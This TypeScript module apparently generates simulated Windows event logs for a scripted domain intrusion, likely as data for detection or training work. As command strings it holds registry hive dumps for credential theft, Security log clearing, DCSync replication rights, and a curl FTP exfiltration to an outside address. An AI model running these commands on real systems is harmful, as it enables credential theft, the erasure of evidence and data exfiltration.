import { subject } from './account.ts';
import type { ActorStyle } from './actor-style.ts';
import type { Host, User } from './inventory.ts';
import { noteServiceTicket, noteTicketGranting, rc4 } from './kerberos-notes.ts';
import type { NetworkLogon } from './logon-notes.ts';
import { noteLogon, notePrivileges } from './logon-notes.ts';
import type { Random } from './random.ts';
import { randomFor } from './random.ts';
import { noteShare } from './share-notes.ts';
import type { StepName } from './steps.ts';
import { planned } from './steps.ts';
import type { Process } from './sysmon-process.ts';
import { runningProcess, startProcess } from './sysmon-process.ts';
import type { World } from './world.ts';
import { hourUs, minuteUs, note, secondUs } from './world.ts';

const system = 'NT AUTHORITY\\SYSTEM';

interface Scene {
  readonly world: World;
  readonly random: Random;
  readonly style: ActorStyle;
  /** Where the intruder sits, and the account taken over. */
  readonly from: Host;
  readonly account: User;
}

/** From the workstation to the domain: tickets, the file server, the directory, and the way out with the documents. */
export function takeOver(world: World, midnight: number, style: ActorStyle): void {
  const { firstVictim: from, administrator: account, fileServer } = world.inventory;
  const random = randomFor(world.seed, 'intrusion-spread');
  const scene: Scene = { world, random, style, from, account };
  const at = (hour: number, minute: number) => midnight + hour * hourUs + minute * minuteUs + random.below(minuteUs);
  roastTickets(scene, at(13, 20));
  const service = enterServer(scene, at(13, 41));
  saveHives(scene, at(13, 47), service);
  clearLog(scene, at(14, 5), service);
  replicateDirectory(scene, at(14, 30));
  carryOut(scene, at(15, 10), service);
  world.book.damage(fileServer, 'Microsoft-Windows-Sysmon/Operational', midnight + 9 * hourUs);
}

function roastTickets({ world, random, style, from }: Scene, timeUs: number): void {
  const [first, ...others] = world.inventory.serviceAccounts;
  if (first === undefined) return;
  const request = { from, encryption: rc4 };
  const open = planned(style, 'roast-no-preauth', { account: first.account });
  noteTicketGranting(world, random, timeUs, { ...request, user: first, preAuthentication: '0' }, open);
  for (const [index, service] of [first, ...others].entries()) {
    const answer = planned(style, 'roast-service', { account: service.account });
    const asked = { ...request, user: from.owner, service };
    noteServiceTicket(world, random, timeUs + minuteUs + index * 300_000, asked, answer);
  }
}

/** A program goes to the administrative share and a service starts it. The server's own log of this is cleared later. */
function enterServer(scene: Scene, timeUs: number): Process {
  const { world, random, style } = scene;
  const on = world.inventory.fileServer;
  copyToShare(scene, timeUs, 'Temp\\up.exe');
  const serviceAnswer = planned(style, 'service-execution', { service: style.service });
  const service = {
    ServiceName: style.service,
    ImagePath: style.serviceImage,
    ServiceType: 'ユーザー モード サービス',
    StartType: '要求時の開始',
    AccountName: 'LocalSystem',
  };
  note(world, on, 'serviceInstalled', timeUs + 4 * secondUs, service, serviceAnswer);
  note(world, on, 'serviceState', timeUs + 5 * secondUs, { param1: style.service, param2: '実行中' });
  const parent = runningProcess(random, 'C:\\Windows\\System32\\services.exe', system);
  const image = style.serviceImage.replace('%SystemRoot%', 'C:\\Windows');
  const isShell = image.startsWith('%COMSPEC%');
  return startProcess(world, on, random, timeUs + 5 * secondUs, {
    image: isShell ? 'C:\\Windows\\System32\\cmd.exe' : image,
    command: style.serviceImage,
    user: system,
    parent,
    company: '-',
  });
}

/** NTLM from a workstation, under an account that signs in by Kerberos elsewhere. */
function logOnFromAfar({ world, random, style, account }: Scene, timeUs: number, logon: NetworkLogon): number {
  const answer = planned(style, 'lateral-logon', { account: account.account });
  const logonId = noteLogon(world, random, timeUs, logon, answer);
  notePrivileges(world, timeUs, logon.on, account, logonId);
  return logonId;
}

function copyToShare(scene: Scene, timeUs: number, file: string): void {
  const { world, random, style, from, account } = scene;
  const on = world.inventory.fileServer;
  const logon: NetworkLogon = { on, user: account, from, with: 'NTLM' };
  const logonId = logOnFromAfar(scene, timeUs, logon);
  const use = {
    ...logon,
    logonId,
    share: 'ADMIN$',
    localPath: '\\??\\C:\\Windows',
    mask: 0x2,
    accesses: '%%4417',
  };
  const answer = planned(style, 'admin-share-write', { file });
  noteShare(world, random, timeUs + secondUs, { ...use, mask: 0x1, accesses: '%%4416' });
  noteShare(world, random, timeUs + 2 * secondUs, { ...use, file }, answer);
}

function saveHives(scene: Scene, timeUs: number, parent: Process): void {
  for (const [index, hive] of ['sam', 'system'].entries()) {
    const command = `reg save hklm\\${hive} C:\\Windows\\Temp\\${hive}.tmp /y`;
    runOnServer(scene, timeUs + index * 5 * secondUs, parent, 'reg.exe', command, 'hives-saved');
  }
}

function clearLog(scene: Scene, timeUs: number, parent: Process): void {
  const { world, style, account } = scene;
  const on = world.inventory.fileServer;
  runOnServer(scene, timeUs, parent, 'wevtutil.exe', 'wevtutil cl Security', 'log-clear-command');
  const clearedUs = timeUs + secondUs;
  note(world, on, 'auditLogCleared', clearedUs, subject(world, account, 0x3e7), planned(style, 'log-cleared'));
  world.book.clear(on, 'Security', clearedUs);
}

/** A person's account asks the directory for its secrets the way domain controllers ask each other. */
function replicateDirectory(scene: Scene, timeUs: number): void {
  const { world, style, from, account } = scene;
  const on = world.inventory.dc;
  const logon: NetworkLogon = { on, user: account, from, with: 'NTLM' };
  const logonId = logOnFromAfar(scene, timeUs, logon);
  // DS-Replication-Get-Changes, and …-All: the control access rights of the domain object.
  for (const right of ['1131f6aa-9c07-11d1-f79f-00c04fc2dcd2', '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2']) {
    const access = {
      ...subject(world, account, logonId),
      ObjectServer: 'DS',
      ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
      ObjectName: '%{0e4c2b7e-5b9c-4d1a-9f52-7f0c3c9a6d11}',
      OperationType: 'Object Access',
      AccessList: '%%7688\r\n\t\t\t\t',
      AccessMask: 0x100,
      Properties: `%%7688\r\n\t\t{${right}}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n`,
      AdditionalInfo2: null,
    };
    note(world, on, 'directoryAccess', timeUs + secondUs, access, planned(style, 'replication'));
  }
}

function carryOut(scene: Scene, timeUs: number, parent: Process): void {
  const { staging } = scene.style;
  copyToShare(scene, timeUs, 'Temp\\rar.exe');
  const archive = `rar.exe a -r -v100m -hpHanami#2025 "${staging}\\d.rar" D:\\共有\\技術`;
  runOnServer(scene, timeUs + 6 * minuteUs, parent, 'Temp\\rar.exe', archive, 'archive');
  const upload = `curl.exe -T "${staging}\\d.part01.rar" ftp://198.51.100.77/in/ --user f:f`;
  runOnServer(scene, timeUs + 52 * minuteUs, parent, 'curl.exe', upload, 'upload');
}

function runOnServer(
  { world, random, style }: Scene,
  timeUs: number,
  parent: Process,
  program: string,
  command: string,
  step: StepName,
): void {
  const image = program.startsWith('Temp') ? `C:\\Windows\\${program}` : `C:\\Windows\\System32\\${program}`;
  const start = { image, command, user: system, parent };
  startProcess(world, world.inventory.fileServer, random, timeUs, start, planned(style, step, { command }));
}
